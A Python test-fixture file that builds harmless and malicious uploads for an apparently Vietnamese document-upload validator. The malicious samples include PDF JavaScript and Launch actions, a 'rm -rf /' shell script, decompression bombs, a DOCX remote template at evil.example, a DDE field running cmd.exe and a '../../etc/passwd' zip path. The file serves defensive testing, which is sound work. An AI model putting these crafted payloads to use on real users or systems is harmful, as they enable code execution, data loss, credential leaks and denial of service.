"""Files for the tests, made here: good ones of each kind, and every fault that is known."""

import io
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image


def pdf(change=None, **save):
    """A one-page PDF; `change(pdf)` may add to it."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    if change:
        change(made)
    out = io.BytesIO()
    # The same bytes each time, where the format allows it.
    made.save(out, deterministic_id="encryption" not in save, **save)
    return out.getvalue()


def opening(**action):
    """A PDF that does something when it is opened."""

    def change(made):
        made.Root.OpenAction = made.make_indirect(Dictionary(**action))

    return pdf(change)


def annotated(**annotation):
    def change(made):
        made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **annotation)])

    return pdf(change)


def script():
    return opening(S=Name.JavaScript, JS=String("app.alert(1)"))


def hidden_script():
    """Deep inside, and packed into an object stream, where no search of the bytes finds it."""

    def change(made):
        made.Root.Extra = made.make_indirect(
            Array([Dictionary(A=Array([Dictionary(B=Dictionary(JS=String("x")))]))])
        )

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def escaped_name():
    """The name of the action spelled with an escape."""
    return script().replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/J#53")


def launching():
    return opening(S=Name.Launch, F=String("calc.exe"))


def linking(address):
    return annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(address)))


def with_attachment():
    def change(made):
        made.attachments["danh-sach.xlsx"] = b"PK\3\4"

    return pdf(change)


def encrypted(*, user):
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=user))


def stream_bomb(megabytes=210):
    """A small file whose page would unpack to so many megabytes."""
    packed = zlib.compressobj(9)
    content = b"".join(packed.compress(b"\0" * 2**20) for _ in range(megabytes)) + packed.flush()

    def change(made):
        page = made.make_stream(b"")
        page.write(content, filter=Name.FlateDecode)
        made.pages[0].Contents = page

    return pdf(change, compress_streams=False)


def markup_first():
    return b"%PDF-1.4\n<html><script>alert(1)</script></html>\n" + pdf()


def zip_behind():
    out = io.BytesIO(pdf())
    out.seek(0, 2)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("hidden.exe", b"MZ")
    return out.getvalue()


def picture(format_name="PNG", size=(40, 30)):
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, format_name)
    return out.getvalue()


def image_bomb():
    """A PNG of a few bytes that says it has 3,600 million points."""

    def chunk(kind, data):
        body = kind + data
        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    size = (60_000).to_bytes(4, "big") * 2
    head = chunk(b"IHDR", size + bytes([8, 2, 0, 0, 0]))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
    '.wordprocessingml.document.main+xml"/></Types>'
)
BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'


def word(text="<w:p/>", types=TYPES, **parts):
    """A .docx; more parts by name, with "__" for "/" and "_" for "." before the ending."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", BODY % text)
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def word_with_template(target):
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
        ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        f' Target="{target}" TargetMode="External"/></Relationships>'
    )
    return word(**{"word/_rels/settings.xml.rels": rels})


def word_bomb():
    return word(
        **{"word/media/image1.bmp": b"\0" * (60 * 2**20), "word/media/image2.bmp": b"\0" * (150 * 2**20)}
    )


GOOD = {
    "good.pdf": pdf,
    "good.docx": word,
    "good.jpg": lambda: picture("JPEG"),
    "good.jpeg": lambda: picture("JPEG"),
    "good.png": picture,
    "Quyết định 45.PDF": pdf,
    "a picture that changed its ending.jpg": picture,
    "no ending": pdf,
    "links to the web.pdf": lambda: linking("https://chinhphu.vn/văn-bản"),
    "links by mail.pdf": lambda: linking("mailto:so@hungyen.gov.vn"),
    "blank lines before the head.pdf": lambda: b"\r\n\r\n" + pdf(),
    "object streams.pdf": lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "only printing is restricted.pdf": lambda: encrypted(user=""),
    "unpacks to 210 MB but is not unpacked.pdf": stream_bomb,
    "template on the author's disk.docx": lambda: word_with_template("file:///C:\\Users\\VP\\Normal.dotm"),
    "an ordinary field.docx": lambda: word("<w:instrText>DATE \\@ dd/MM/yyyy</w:instrText>"),
    "a note on a page.pdf": lambda: annotated(Subtype=Name.Text),
}
BAD = {
    "empty.pdf": (lambda: b"", "E_FILE_EMPTY"),
    "blank.pdf": (lambda: b"\0\n" * 50, "E_FILE_EMPTY"),
    "exe.pdf": (lambda: b"MZ\x90\0" + b"\0" * 300, "E_FILE_TYPE"),
    "shell.pdf": (lambda: b"#!/bin/sh\nrm -rf /\n", "E_FILE_TYPE"),
    "page.pdf": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", "E_FILE_TYPE"),
    "text.pdf": (lambda: "Quyết định".encode() * 20, "E_FILE_TYPE"),
    "markup first.pdf": (markup_first, "E_FILE_TYPE"),
    "zip behind.pdf": (zip_behind, "E_FILE_TYPE"),
    "word named.pdf": (word, "E_FILE_TYPE"),
    "pdf named.docx": (pdf, "E_FILE_TYPE"),
    "pdf named.jpg": (pdf, "E_FILE_TYPE"),
    "gif.png": (lambda: picture("GIF"), "E_FILE_TYPE"),
    "tiff.jpg": (lambda: picture("TIFF"), "E_FILE_TYPE"),
    "webp.jpg": (lambda: b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 40, "E_FILE_TYPE"),
    "script.pdf": (script, "E_PDF_ACTIVE"),
    "hidden script.pdf": (hidden_script, "E_PDF_ACTIVE"),
    "escaped name.pdf": (escaped_name, "E_PDF_ACTIVE"),
    "launch.pdf": (launching, "E_PDF_ACTIVE"),
    "sends a form.pdf": (lambda: opening(S=Name.SubmitForm, F=String("http://x")), "E_PDF_ACTIVE"),
    "opens another file.pdf": (lambda: opening(S=Name.GoToR, F=String("\\\\x\\y.pdf")), "E_PDF_ACTIVE"),
    "script behind a link.pdf": (lambda: linking("javascript:alert(1)"), "E_PDF_ACTIVE"),
    "script spelled oddly.pdf": (lambda: linking(" Java\tScript:alert(1)"), "E_PDF_ACTIVE"),
    "data behind a link.pdf": (lambda: linking("data:text/html,x"), "E_PDF_ACTIVE"),
    "film.pdf": (lambda: annotated(Subtype=Name.RichMedia), "E_PDF_ACTIVE"),
    "attachment.pdf": (with_attachment, "E_PDF_ACTIVE"),
    "form with scripts.pdf": (
        lambda: pdf(lambda made: made.Root.__setattr__("AcroForm", Dictionary(XFA=Array([])))),
        "E_PDF_ACTIVE",
    ),
    "password.pdf": (lambda: encrypted(user="secret"), "E_FILE_ENCRYPTED"),
    "truncated.pdf": (lambda: stream_bomb(2)[:1500], "E_FILE_CORRUPT"),
    "head only.pdf": (lambda: b"%PDF-1.7\n%%EOF", "E_FILE_CORRUPT"),
    "noise.pdf": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"startxref\n9\n%%EOF", "E_FILE_CORRUPT"),
    "macro.docx": (lambda: word(**{"word/vbaProject.bin": b"x"}), "E_FILE_MACRO"),
    "says macro.docx": (lambda: word(types=TYPES.replace("document.main", "document.macroEnabled.main")), "E_FILE_MACRO"),
    "template elsewhere.docx": (lambda: word_with_template("https://evil.example/x.dotm"), "E_DOC_ACTIVE"),
    "template in the network.docx": (lambda: word_with_template("\\\\10.0.0.1\\x.dotm"), "E_DOC_ACTIVE"),
    "program field.docx": (
        lambda: word("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText>"),
        "E_DOC_ACTIVE",
    ),
    "zip bomb.docx": (word_bomb, "E_ZIP_BOMB"),
    "document type.docx": (lambda: word("<!DOCTYPE x []>"), "E_XML_DTD"),
    "strange path.docx": (lambda: word(**{"../../etc/passwd": "x"}), "E_ZIP_PATH"),
    "truncated.docx": (lambda: word()[:-40], "E_FILE_CORRUPT"),
    "workbook.docx": (lambda: word().replace(b"word/", b"xl/wo"), "E_FILE_TYPE"),
    "old word.docx": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "E_FILE_TYPE"),
    "word with password.docx": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
        "E_FILE_ENCRYPTED",
    ),
    "image bomb.png": (image_bomb, "E_IMAGE_BOMB"),
    "truncated.png": (lambda: picture(size=(400, 300))[:-60], "E_FILE_CORRUPT"),
    "truncated.jpg": (lambda: picture("JPEG", (400, 300))[:400], "E_FILE_CORRUPT"),
}  # fmt: skip
